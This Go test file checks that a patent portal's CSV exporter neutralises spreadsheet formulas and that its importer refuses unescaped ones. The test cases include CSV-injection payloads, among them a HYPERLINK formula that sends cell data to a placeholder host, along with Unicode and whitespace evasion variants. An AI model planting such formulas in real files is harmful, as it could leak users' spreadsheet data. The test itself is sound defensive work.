package bulk_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"sepportal/claimcharts/bulk"
	"sepportal/claimcharts/lists"
)

// TestCSVFormulaRule holds the exporter and the importer to one rule of
// formula neutralising (OWASP CSV injection): every cell a spreadsheet
// could evaluate is exported behind an apostrophe, and importing the
// export gives back the cell as it was, never a rejection; the same
// cells written unescaped, as a spreadsheet saves formulas, are refused.
func TestCSVFormulaRule(t *testing.T) {
	cases := []struct {
		title   string
		escaped bool // the export puts an apostrophe before it
		formula bool // written unescaped, the importer refuses it
	}{
		{"=1+1", true, true},
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", true, true},
		{"+1+1", true, true},
		{"-2+3", true, true},
		{"@SUM(A1:A3)", true, true},
		{"\t=HYPERLINK(\"http://x.example\")", true, true},
		{"\r=1+1", true, true},
		{" =1+1", true, true},
		{"  \t @SUM(A1)", true, true},
		{"\u3000=1+1", true, true},
		{"＝SUM(A1)", true, true},
		{"＋A1", true, true},
		{"－A1", true, true},
		{"＠SUM(A1)", true, true},
		{"\tplain text after a tab", true, false},
		{"- an element", true, false},
		{"-1", true, false},
		{"+86 10 1234 5678", true, false},
		{"@acme", true, false},
		{"'=1+1", true, false},
		{"'already quoted", false, false},
		{"Method = encoding", false, false},
		{"a+b", false, false},
		{"帧间预测", false, false},
	}
	for _, tc := range cases {
		t.Run(strings.NewReplacer("\t", `\t`, "\r", `\r`).Replace(tc.title), func(t *testing.T) {
			var out bytes.Buffer
			w, err := bulk.NewWriter(&out, bulk.CSV, lists.Patents, "en")
			must(t, err)
			must(t, w.Write(lists.Row{Cells: map[string]string{"number": "EP 2 777 236 B1", "title_en": tc.title}}))
			must(t, w.Close())
			cell := titleCell(t, out.Bytes())
			if escaped := cell == "'"+tc.title; escaped != tc.escaped || !escaped && cell != tc.title {
				t.Fatalf("exported as %q; escaped %v, want %v", cell, escaped, tc.escaped)
			}
			if row := readTitle(t, out.Bytes()); row.Reject != nil || row.Cells["title_en"] != tc.title {
				t.Fatalf("the export reads back as %q (rejected: %+v), want %q", row.Cells["title_en"], row.Reject, tc.title)
			}
			raw := csvFile([][]string{{"Patent number", "Title (EN)"}, {"EP 2 777 236 B1", tc.title}}, ',', false)
			row := readTitle(t, raw)
			if refused := row.Reject != nil && strings.Contains(row.Reject.Reason, "spreadsheet formula"); refused != tc.formula {
				t.Fatalf("unescaped, the cell is refused: %v, want %v (%+v)", refused, tc.formula, row.Reject)
			}
		})
	}
}

// titleCell is the title cell of an exported patents CSV, as written.
func titleCell(tb testing.TB, data []byte) string {
	tb.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf")))).ReadAll()
	must(tb, err)
	for i, h := range rows[0] {
		if h == bulk.Header(lists.Patents, "title_en", "en") {
			return rows[1][i]
		}
	}
	tb.Fatalf("no title column in %q", rows[0])
	return ""
}

// readTitle reads the first row of a patents CSV with the importer's reader.
func readTitle(tb testing.TB, data []byte) lists.Row {
	tb.Helper()
	r, err := bulk.Open(writeFile(tb, "patents.csv", data), bulk.Options{Kind: lists.Patents})
	must(tb, err)
	defer r.Close()
	row, err := r.Next()
	must(tb, err)
	return row
}
